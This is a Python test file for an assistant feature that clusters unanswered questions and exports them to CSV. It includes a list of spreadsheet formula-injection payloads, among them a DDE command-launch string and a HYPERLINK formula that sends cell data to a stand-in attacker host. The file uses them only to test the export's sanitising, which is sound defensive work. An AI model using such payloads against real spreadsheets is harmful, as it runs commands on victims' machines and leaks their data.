"""Gaps: questions gathered by meaning, counted, and written so that no spreadsheet runs them."""

import csv
import io
import random
import time
import unicodedata
from dataclasses import replace
from datetime import UTC, datetime, timedelta

import pytest
from fakes import CharacterEncoder
from hypothesis import given
from hypothesis import strategies as st

from assistant.build import build
from assistant.desk import Desk
from assistant.gaps import COLUMNS, Gap, alike, as_csv, cell, clusters, references
from assistant.history import Turn, Vote
from assistant.questions import asked_anywhere
from assistant.settings import Settings
from assistant.split import find_section

NOON = datetime(2026, 11, 26, 12, tzinfo=UTC)


def turn(question, minutes=0, verdict="unanswered", reason=None):
    at = NOON + timedelta(minutes=minutes)
    vote = Vote(-1, reason, "", at) if reason is not None else None
    return Turn(
        id=f"t{minutes}",
        conversation="c",
        at=at,
        question=question,
        verdict=verdict,
        confidence=0.1,
        reason="low_confidence",
        language="zh",
        generation="000001-00000000",
        elapsed_ms=1.0,
        answer={},
        vote=vote,
        ticket=None,
    )


CARDS = ["怎么绑定银行卡", "银行卡绑定失败怎么办", "绑银行卡老是失败", "如何绑定一张新的银行卡"]
NAMES = ["how do I change my user name", "change the user name", "I want another user name"]
OTHERS = ["今天北京天气怎么样", "红烧肉怎么烧才不腻"]


def asked(*questions):
    return [turn(question, minutes) for minutes, question in enumerate(questions)]


def sets(gaps):
    return {frozenset(gap.questions) for gap in gaps}


def test_questions_for_the_same_thing_are_one_gap_and_others_are_not(desk, encoder):
    gaps = clusters(asked(*CARDS, *NAMES, *OTHERS), desk.index, encoder)
    assert sets(gaps) == {frozenset(CARDS), frozenset(NAMES), *(frozenset({q}) for q in OTHERS)}
    assert [gap.asked for gap in gaps] == [4, 3, 1, 1]


def test_the_order_of_the_turns_changes_nothing(desk, encoder):
    turns = asked(*CARDS, *NAMES, *OTHERS, *CARDS)
    expected = clusters(turns, desk.index, encoder)
    for seed in range(5):
        mixed = random.Random(seed).sample(turns, len(turns))
        assert clusters(mixed, desk.index, encoder) == expected


def test_a_gap_counts_turns_votes_and_reasons_and_knows_its_newest(desk, encoder):
    turns = [
        turn(CARDS[0], 1),
        turn("怎麼綁定銀行卡", 2, "answered", "wrong_passage"),
        turn(CARDS[0], 9, "uncertain", "wrong_passage"),
        turn(CARDS[1], 5, "unanswered", "outdated"),
        turn(CARDS[1], 3, "answered", ""),
    ]
    (gap,) = clusters(turns, desk.index, encoder)
    assert (gap.asked, gap.unanswered, gap.down) == (5, 2, 4)
    assert gap.reasons == (("wrong_passage", 2), ("", 1), ("outdated", 1))
    assert gap.newest == NOON + timedelta(minutes=9)
    assert gap.questions == (CARDS[0], CARDS[1])


def test_an_up_vote_is_no_reason(desk, encoder):
    up = replace(turn(CARDS[0]), vote=Vote(1, "", "", NOON))
    (gap,) = clusters([up], desk.index, encoder)
    assert (gap.down, gap.reasons) == (0, ())


def test_the_nearest_passage_is_the_one_that_a_search_finds_first(desk, encoder):
    (gap,) = clusters(asked("忘记登录密码了怎么办"), desk.index, encoder)
    (hit,) = desk.search("忘记登录密码了怎么办", 1)
    assert gap.nearest == hit
    assert gap.similarity == hit.similarity > 0.5


def test_every_passage_is_named_so_that_a_build_finds_it(desk):
    passages = list(desk.index.chunks())
    named = references(desk.index)
    assert len(named) == len(passages)
    for row, name in enumerate(named):
        assert row in find_section(name, passages)


TWICE = """# Cards
intro
## Fees
one
## Limits
two
# Accounts
## Fees
three
"""


def test_a_heading_that_stands_twice_is_named_with_those_above_it(tmp_path, encoder):
    (tmp_path / "corpus").mkdir()
    (tmp_path / "corpus" / "a.md").write_text(TWICE)
    settings = Settings(corpus=tmp_path / "corpus", index=tmp_path / "index")
    build(settings, encoder)
    assert references(Desk(settings, encoder).index) == [
        "a.md#Cards",
        "a.md#Cards > Fees",
        "a.md#Limits",
        "a.md#Accounts > Fees",
    ]


def test_no_turns_are_no_gaps(desk, encoder):
    assert clusters([], desk.index, encoder) == []


def test_questions_without_a_vector_are_gaps_of_their_own(desk):
    """An encoder that knows nothing of a text gives zeros, which have no direction."""
    gaps = clusters(asked("？？", "！！", "银行卡", "银行卡"), desk.index, _Numb())
    assert [gap.asked for gap in gaps] == [2, 1, 1]


class _Numb(CharacterEncoder):
    dimensions = 64


def test_unrelated_questions_are_hardly_ever_alike(encoder):
    assert 0.3 < alike(encoder) < 0.6
    assert alike(CharacterEncoder()) != alike(encoder)


def test_thousands_of_questions_take_seconds(desk, encoder):
    questions = asked_anywhere()[:3000]
    clusters(asked(*questions[:10]), desk.index, encoder)  # its libraries are imported now
    started = time.perf_counter()
    gaps = clusters(asked(*questions), desk.index, encoder)
    assert sum(gap.asked for gap in gaps) == len(questions)
    assert time.perf_counter() - started < 30


# --- Export --------------------------------------------------------------------------------------

HOSTILE = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹢1",
    "﹣1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    "a;=1+1",
    'a",=1+1',
    'a"\n=1+1',
    "a\u2028=1+1\u2029=2",
    "a\x0b=1\x0c=1\x85=1\x1c=1",
    '=HYPERLINK("http://evil.example?"&A1,"x")',
]
SEPARATORS = ",;\t|"


def gap(*questions):
    return Gap(tuple(questions), 1, 1, 0, (), NOON, None, "")


def starts_of_cells(line):
    """Yield what would begin a cell, whatever separator and quote mark a reader goes by."""
    for separator in SEPARATORS:
        for part in line.split(separator):
            yield part.strip().strip("\"'" if part.strip().strip('"')[:1] != "'" else '"')


def is_formula(words):
    return unicodedata.normalize("NFKC", words)[:1] in {"=", "+", "-", "@"}


@pytest.mark.parametrize("words", HOSTILE)
def test_a_hostile_cell_is_one_line_and_opens_without_a_formula(words):
    written = as_csv([gap(words), gap("后面", words)])
    _, *records = written.removesuffix("\r\n").split("\r\n")
    assert len(records) == 2
    for record in records:
        assert len(record.splitlines()) == 1
        assert not any(is_formula(start) for start in starts_of_cells(record))
    for row in csv.reader(io.StringIO(written)):
        assert len(row) == len(COLUMNS)
        assert not any(is_formula(value.strip()) for value in row)


@given(
    st.text(alphabet=st.sampled_from("=+-@＝＋－＠,;|\t\r\n\v\f\"'a1 \u2028\ufeff"), max_size=30)
)
def test_no_text_makes_a_formula_or_a_second_line(words):
    written = cell(words)
    assert written.splitlines() in ([written], [])
    for separator in SEPARATORS:
        for part in written.split(separator):
            assert not is_formula(part.strip())


@given(st.text(max_size=50))
def test_what_is_harmless_is_exported_as_it_was_asked(words):
    plain = " ".join(w for w in words.split() if w.isalnum() and w.isascii())
    assert cell(plain) == plain


def test_the_export_says_what_the_gap_says(desk, encoder):
    (found,) = clusters([turn("忘记登录密码了怎么办", 7, reason="outdated")], desk.index, encoder)
    (row,) = csv.DictReader(io.StringIO(as_csv([found])))
    assert row["asked"] == row["unanswered"] == row["down_votes"] == "1"
    assert row["reasons"] == "outdated: 1"
    assert row["newest"] == "2026-11-26 12:07+00:00"
    assert row["questions"] == "忘记登录密码了怎么办"
    assert row["nearest_passage"] == found.reference
    assert float(row["similarity"]) == pytest.approx(found.similarity, abs=1e-3)
    assert row["nearest_text"].split() == found.nearest.chunk.text.split()
